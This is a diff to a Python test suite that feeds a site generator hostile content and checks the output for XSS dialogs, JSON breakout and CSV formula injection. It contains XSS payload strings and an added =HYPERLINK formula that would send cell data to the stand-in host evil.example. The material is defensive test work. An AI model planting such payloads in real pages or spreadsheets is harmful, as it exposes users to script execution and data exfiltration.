@@ -10,6 +10,8 @@ covered: raw HTML escaped (the default) and ``markdown: {html: true}``.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import shutil
@@ -29,6 +31,7 @@ PAYLOAD = ("<script>alert(1)</script>\"><img src=x onerror=alert(2)>' onmouseove
            "javascript:alert(4) </script><svg onload=alert(5)></textarea></title> {{ 7*7 }} "
            "{% if true %}jinja{% endif %} %%{init: {\"securityLevel\":\"loose\"}}%% "
            "<a href=\"javascript:alert(6)\">x</a> ]]>--><!--")
+FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"
 UNSAFE_LINKS = ["javascript:alert(7)", " JaVaScRiPt:alert(8)", "vbscript:msgbox(9)",
                 "data:text/html,<script>alert(10)</script>", "java\tscript:alert(11)",
                 'https://example.com/"><script>alert(12)</script>']
@@ -116,6 +119,7 @@ def fields(keys: tuple[str, ...], nested: dict, dropped: set[str]) -> dict:
 def hostile_project(root: Path, dropped: set[str], html: bool) -> Path:
     content = [dict(fields(validate.CONTENT_KEYS, {"link": link}, dropped), id=f"c{n}",
                     status="live") for n, link in enumerate(UNSAFE_LINKS)]
+    content[0]["title"] = content[0]["type"] = FORMULA  # CSV exports must not run it
     opportunity = fields(validate.OPPORTUNITY_KEYS, {}, dropped) | {"status": "idea"}
     touchpoints = [fields(validate.TOUCHPOINT_KEYS, {"opportunities": [opportunity],
                                                      "content": content}, dropped) | {"id": "first"},
@@ -213,6 +217,12 @@ def assert_inert(out: Path, base_path: str = "/") -> list[Path]:
             assert target.relative_to(out.resolve()).as_posix() in theme_scripts, (page, src)
     for data in out.rglob("*.json"):
         json.loads(data.read_text(encoding="utf-8"))  # content cannot break out of JSON
+    cells = [(table, cell) for table in out.rglob("*.csv")
+             for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8-sig")))
+             for cell in row]
+    assert any(FORMULA in cell for _, cell in cells)
+    for table, cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (table, cell)
     return pages
 
 
@@ -252,9 +262,9 @@ def test_pages_open_without_dialogs(hostile_site):
 
     require_browser()
     out, _, _ = hostile_site
-    # Every page holding Markdown or diagrams from content, and the top-level views;
-    # all pages are parsed above, opening each in a browser would take a minute.
-    pages = sorted(p for p in out.rglob("*.html") if p.parent == out or
+    # Every page holding Markdown or diagrams from content, and the home page with its
+    # search; all pages are parsed above, opening each in a browser would take a minute.
+    pages = sorted(p for p in out.rglob("*.html") if p == out / "index.html" or
                    {"personas", "pages", "xss"} & set(p.relative_to(out).parts[:2]))
     dialogs: list[str] = []
     for page in pages:
@@ -264,6 +274,11 @@ def test_pages_open_without_dialogs(hostile_site):
                 loaded.page.wait_for_function(
                     "() => [...document.querySelectorAll('pre.mermaid')]"
                     ".every(p => p.querySelector('svg') || p.dataset.processed)", timeout=20_000)
+            search = loaded.page.query_selector("form[data-search] input")
+            if page == out / "index.html" and search is not None:
+                for query in ("alert", "onerror", "script"):  # results drawn from content
+                    search.fill(query)
+                    loaded.page.wait_for_timeout(150)
             loaded.page.wait_for_timeout(50)
             assert loaded.page.evaluate("document.title").find("pwned") < 0
     assert dialogs == []
